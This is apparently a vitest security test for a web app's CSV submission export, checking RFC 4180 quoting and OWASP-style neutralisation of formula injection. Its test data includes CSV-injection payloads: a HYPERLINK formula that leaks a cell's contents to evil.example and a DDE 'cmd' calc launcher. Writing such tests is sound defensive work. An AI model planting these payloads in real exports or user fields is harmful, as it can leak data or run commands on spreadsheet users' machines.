// The submission export is CSV-safe: study ids (folder names, chosen by whoever writes an import folder) that look
// like spreadsheet formulas or carry commas, quotes and line breaks leave RFC 4180-quoted and neutralised (OWASP:
// a leading = + - @ TAB CR gets a single quote). Checked by opening the export in Python's csv module (strict).
import { spawnSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvRecordCount } from '../../src/services/export/csv-cell.js';
import { startSecurityStack, type SecurityStack } from '../support/security-fixture.js';

let stack: SecurityStack;
const HOSTILE_IDS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0,x",
  '+1+1',
  '-2+3',
  '\tTAB',
  '\rCR',
  'a,b',
  'quote"inside',
  'line\nbreak',
];

beforeAll(async () => {
  stack = await startSecurityStack({ env: { NODE_ENV: 'production' }, cohorts: { a: 1, b: 1 } });
  for (const externalId of HOSTILE_IDS)
    await stack.db.sql.query(
      `INSERT INTO "Study" (id, "projectId", "externalId", "updatedAt") VALUES (gen_random_uuid(), $1::uuid, $2, now())`,
      [stack.projects.a.id, externalId],
    );
}, 240_000);

afterAll(async () => {
  await stack?.stop();
});

/** Rows as Python's csv module (strict mode: malformed quoting raises) reads them. */
function pythonCsvRows(text: string): string[][] {
  const script = 'import csv, io, json, sys\nprint(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline=""), strict=True))))';
  const run = spawnSync('/usr/bin/python3', ['-c', script], { input: text, encoding: 'utf8' });
  if (run.status !== 0) throw new Error(`python csv refused the export: ${run.stderr}`);
  return JSON.parse(run.stdout) as string[][];
}

describe('the submission export', () => {
  it('opens in a strict CSV parser with 4 fields per row and every hostile id neutralised', async () => {
    const res = await fetch(`${stack.baseUrl}/exports/submission.csv`, { headers: stack.users.researcherA.headers });
    expect(res.status).toBe(200);
    const text = await res.text();
    const rows = pythonCsvRows(text);
    expect(rows[0]).toEqual(['row_id', 'normal_mild', 'moderate', 'severe']);
    const body = rows.slice(1);
    expect(body).toHaveLength(25 * (HOSTILE_IDS.length + stack.projects.a.studyIds.length));
    for (const row of body) expect(row).toHaveLength(4);
    // No cell a spreadsheet would evaluate: none starts with = + - @ TAB or CR.
    for (const row of body) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const ids = new Set(body.map((r) => r[0]));
    for (const hostile of HOSTILE_IDS) {
      const first = `${/^[=+\-@\t\r]/.test(hostile) ? "'" : ''}${hostile}_spinal_canal_stenosis_l1_l2`;
      expect(ids.has(first), first).toBe(true);
    }
    for (const row of body) for (const p of row.slice(1)) expect(Number(p)).toBeGreaterThanOrEqual(0);
  });
});

describe('csvCell', () => {
  it('quotes and neutralises as RFC 4180 and OWASP ask', () => {
    expect(csvCell('123_abc')).toBe('123_abc');
    expect(csvCell('0.333333')).toBe('0.333333');
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
    expect(csvCell('x\ny')).toBe('"x\ny"');
    expect(csvRecordCount('a,b\n"x\ny",c\n')).toBe(2);
  });
});
